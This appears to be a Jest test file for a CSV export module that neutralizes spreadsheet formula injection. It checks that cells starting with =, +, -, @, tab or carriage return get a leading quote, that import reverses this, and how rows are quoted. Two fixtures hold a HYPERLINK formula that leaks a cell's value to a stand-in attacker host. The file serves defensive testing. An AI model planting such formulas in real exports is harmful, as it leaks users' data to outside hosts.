import { neutralizeCsvCell, restoreCsvCell, writeCsv } from './csv';

describe('a CSV cell', () => {
  it.each([
    ['a formula', '=HYPERLINK("http://evil.example/?leak="&A1,"Click")', `'=HYPERLINK("http://evil.example/?leak="&A1,"Click")`],
    ['a plus sign', '+1+1', "'+1+1"],
    ['a minus sign', '-2+3', "'-2+3"],
    ['text that looks like a negative number', '-5', "'-5"],
    ['an at sign', '@SUM(A1:A9)', "'@SUM(A1:A9)"],
    ['a tab', '\t=1+1', "'\t=1+1"],
    ['a carriage return', '\r=1+1', "'\r=1+1"],
  ])('starting with %s is shown as text, behind a single quote', (_case, value, expected) => {
    expect(neutralizeCsvCell(value)).toBe(expected);
  });

  it.each([
    ['plain text', 'Agua potable para San Felipe', 'Agua potable para San Felipe'],
    ['a sign inside the text', 'Meta 1 = 100 %', 'Meta 1 = 100 %'],
    ['a leading space', ' =1', ' =1'],
    ['an empty text', '', ''],
    ['a negative number', -5, -5],
    ['a positive number', 12.5, 12.5],
    ['a boolean', true, true],
    ['nothing', null, null],
  ])('with %s is left as it is', (_case, value, expected) => {
    expect(neutralizeCsvCell(value)).toBe(expected);
  });
});

describe('a CSV cell read back (import)', () => {
  it.each([
    ['a neutralized formula', "'=1+1", '=1+1'],
    ['a neutralized phone number', "'+507 6000-0001", '+507 6000-0001'],
    ['a quote before plain text', "'hola", "'hola"],
    ['plain text', 'hola', 'hola'],
    ['a lone quote', "'", "'"],
  ])('with %s reads as what was written', (_case, text, expected) => {
    expect(restoreCsvCell(text)).toBe(expected);
  });

  it('undoes exactly what writing did', () => {
    for (const text of ['=1', '+1', '-1', '@a', '\t1', '\r1', 'a', "'b", ''] as const) expect(restoreCsvCell(String(neutralizeCsvCell(text)))).toBe(text);
  });
});

describe('a CSV file', () => {
  it('has a header line and one line per row, CRLF, with numbers and booleans as written and nothing empty', () => {
    expect(writeCsv([{ code: 'M-01', current: -5, isPublic: true, unit: null }])).toBe('code,current,isPublic,unit\r\nM-01,-5,true,');
  });

  it('neutralizes formulas in every text cell, and quotes what would split the cell', () => {
    const csv = writeCsv([{ title: '=HYPERLINK("http://evil.example/?leak="&A1,"Click")', note: 'uno; =1+1', code: '-5' }]);
    expect(csv.split('\r\n')[1]).toBe(`"'=HYPERLINK(""http://evil.example/?leak=""&A1,""Click"")","uno; =1+1",'-5`);
  });

  it('takes the columns given, in their order, and the keys of every row otherwise', () => {
    expect(writeCsv([{ b: 1 }, { a: 2 }])).toBe('b,a\r\n1,\r\n,2');
    expect(writeCsv([{ a: 1, b: 2 }], ['b', 'a'])).toBe('b,a\r\n2,1');
  });

  it('writes lists and objects as JSON, and dates as ISO instants', () => {
    expect(writeCsv([{ ids: ['x', 'y'], at: new Date('2026-03-07T09:30:00Z') }])).toBe('ids,at\r\n"[""x"",""y""]",2026-03-07T09:30:00.000Z');
  });

  it('reads no inherited key as a column value', () => {
    expect(writeCsv([{}], ['constructor', 'toString'])).toBe('constructor,toString\r\n,');
  });
});
